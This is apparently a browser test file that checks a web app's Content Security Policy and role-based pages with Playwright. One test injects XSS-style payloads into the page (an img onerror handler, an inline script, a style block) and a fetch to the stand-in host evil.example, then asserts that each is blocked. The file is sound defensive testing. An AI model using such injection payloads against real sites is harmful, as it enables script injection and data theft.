import { type Browser, chromium } from "@playwright/test";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { findChromium } from "../../../../scripts/setup/find-chromium";
import type { PlatformConsole } from "../../../fixtures/platform-console";
import { signInLocally } from "../../../fixtures/sign-in";
import { Visitor } from "../../../fixtures/visitor";
import { emailOf, type House, PASSWORD } from "./house";

/** What a real browser makes of the policy: the page works, and nothing was blocked or asked elsewhere. */
export function describeBrowser(house: () => House): void {
  describe("in Chromium", () => {
    let at: PlatformConsole;
    let browser: Browser;
    beforeAll(async () => {
      at = await house().build.start(house().env);
      browser = await chromium.launch({
        executablePath: findChromium(),
        args: ["--no-sandbox"],
      });
    });
    afterAll(async () => {
      await browser?.close();
      await at?.end();
    });

    const openAs = async (role: string) => {
      const visitor = new Visitor();
      await signInLocally(visitor, at.url, { email: emailOf(role), password: PASSWORD });
      const context = await browser.newContext();
      const name = "switchyard.session-token";
      await context.addCookies([{ name, value: visitor.cookie(at.url, name) ?? "", url: at.url }]);
      const page = await context.newPage();
      const complaints: string[] = [];
      const asked: string[] = [];
      page.on("console", (message) => {
        // The tests' app has no icon.
        const icon = message.location().url.endsWith("/favicon.ico");
        if (message.type() === "error" && !icon) complaints.push(message.text());
      });
      page.on("pageerror", (error) => complaints.push(String(error)));
      page.on("request", (request) => asked.push(new URL(request.url()).origin));
      return { page, complaints, asked };
    };

    test("a page hydrates, its action works, nothing is blocked and nobody else is asked", async () => {
      const { page, complaints, asked } = await openAs("approver");
      await page.goto(at.url);
      await page.getByRole("button", { name: "Decide" }).click();
      await page.getByText("Approved lab-app.").waitFor();
      expect(complaints).toEqual([]);
      expect(new Set(asked)).toEqual(new Set([at.url]));
    });

    test("a script that got into the page does not run, nor can it be loaded or sent elsewhere", async () => {
      const { page } = await openAs("approver");
      await page.goto(at.url);
      const verdict = await page.evaluate(async () => {
        const blocked: string[] = [];
        document.addEventListener("securitypolicyviolation", (event) =>
          blocked.push(event.effectiveDirective),
        );
        document.body.insertAdjacentHTML("beforeend", '<img src="x:" onerror="window.hacked = 1">');
        const inline = document.createElement("script");
        inline.textContent = "window.hacked = 2";
        document.body.insertAdjacentHTML("beforeend", inline.outerHTML);
        const style = document.createElement("style");
        style.textContent = "body { display: none }";
        document.head.append(style);
        const sent = await fetch("https://evil.example/").then(
          () => "sent",
          () => "stopped",
        );
        await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
        return { blocked, sent, hacked: (window as { hacked?: number }).hacked };
      });
      expect(verdict.hacked).toBeUndefined();
      expect(verdict.sent).toBe("stopped");
      expect(verdict.blocked).toEqual(
        expect.arrayContaining(["script-src-attr", "style-src-elem", "connect-src"]),
      );
    });

    test("a page that the role may not see says why", async () => {
      const { page } = await openAs("viewer");
      await page.goto(`${at.url}/audit`);
      await page.getByText("This needs the role operator; you are signed in as viewer.").waitFor();
    });
  });
}
